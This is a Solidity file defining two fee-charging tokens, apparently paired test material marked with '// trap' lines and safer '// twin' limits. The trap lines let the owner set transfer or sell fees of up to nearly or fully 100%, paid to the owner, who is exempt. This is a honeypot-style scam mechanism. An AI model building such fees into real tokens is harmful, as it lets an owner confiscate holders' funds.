// 0.5 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.5.17;

interface IFactory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

library SafeMath {
    function add(uint256 a, uint256 b) internal pure returns (uint256 c) {
        c = a + b;
        require(c >= a, "add");
    }

    function sub(uint256 a, uint256 b) internal pure returns (uint256) {
        require(b <= a, "sub");
        return a - b;
    }

    function mul(uint256 a, uint256 b) internal pure returns (uint256 c) {
        if (a == 0) return 0;
        c = a * b;
        require(c / a == b, "mul");
    }
}

contract PoundLedger {
    using SafeMath for uint256;

    string public name;
    string public symbol;
    uint8 public constant decimals = 6;
    uint256 public totalSupply;
    address public owner;
    address public market;
    mapping(address => uint256) internal _accounts;
    mapping(address => mapping(address => uint256)) internal _granted;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed from, address indexed to);

    modifier onlyOwner() {
        require(msg.sender == owner, "not the owner");
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 supply) internal {
        name = name_;
        symbol = symbol_;
        owner = msg.sender;
        totalSupply = supply * 10**6;
        _accounts[msg.sender] = totalSupply;
        market = IFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function transferOwnership(address to) external onlyOwner {
        emit OwnershipTransferred(owner, to);
        owner = to;
    }

    function balanceOf(address who) public view returns (uint256) {
        return _accounts[who];
    }

    function allowance(address from, address spender) public view returns (uint256) {
        return _granted[from][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _granted[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _deliver(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        _granted[from][msg.sender] = _granted[from][msg.sender].sub(value);
        _deliver(from, to, value);
        return true;
    }

    function _deliver(address from, address to, uint256 value) internal {
        uint256 fee = _feeOn(from, to, value);
        _accounts[from] = _accounts[from].sub(value);
        if (fee > 0) {
            _accounts[owner] = _accounts[owner].add(fee);
            emit Transfer(from, owner, fee);
        }
        _accounts[to] = _accounts[to].add(value.sub(fee));
        emit Transfer(from, to, value.sub(fee));
    }

    function _feeOn(address from, address to, uint256 value) internal view returns (uint256);
}

/// Charges for a crossing, up to so many whole pounds.
contract FerryPound is PoundLedger {
    uint256 public pointsRate;
    uint256 public highestFee;

    event Revised(uint256 pointsRate, uint256 highestFee);

    constructor() public PoundLedger("Ferry Pound", "FPND", 25000000) {}

    function revise(uint256 points, uint256 wholePounds) external onlyOwner {
        require(points < 10000, "too many points"); // trap
        // twin: require(points <= 30, "too many points");
        pointsRate = points;
        highestFee = wholePounds.mul(10**6);
        emit Revised(pointsRate, highestFee);
    }

    function _feeOn(address from, address, uint256 value) internal view returns (uint256) {
        if (from == owner) return 0;
        uint256 fee = value.mul(pointsRate) / 10000;
        return fee > highestFee ? highestFee : fee;
    }
}

/// A sale pays by its size.
contract Stairwell is PoundLedger {
    struct Landing {
        uint128 threshold;
        uint128 rate;
    }

    Landing[] public landings;

    event LandingSet(uint256 indexed index, uint256 threshold, uint256 rate);

    constructor() public PoundLedger("Stairwell", "STAIR", 400000000) {
        landings.push(Landing(0, 100));
    }

    function landing(uint256 index, uint128 threshold, uint128 rate) external onlyOwner {
        uint256 count = landings.length;
        require(index > 0 && index <= count && index < 6, "no such landing");
        require(threshold > landings[index - 1].threshold, "below the one before");
        require(index + 1 >= count || threshold < landings[index + 1].threshold, "above the next");
        require(rate <= 10000, "rate"); // trap
        // twin: require(rate <= 300, "rate");
        if (index == count) landings.length++;
        landings[index] = Landing(threshold, rate);
        emit LandingSet(index, threshold, rate);
    }

    function _feeOn(address from, address to, uint256 value) internal view returns (uint256) {
        if (to != market || from == owner) return 0;
        for (uint256 i = landings.length; i > 0; i--) {
            if (value >= landings[i - 1].threshold) return value.mul(landings[i - 1].rate) / 10000;
        }
        return 0;
    }
}
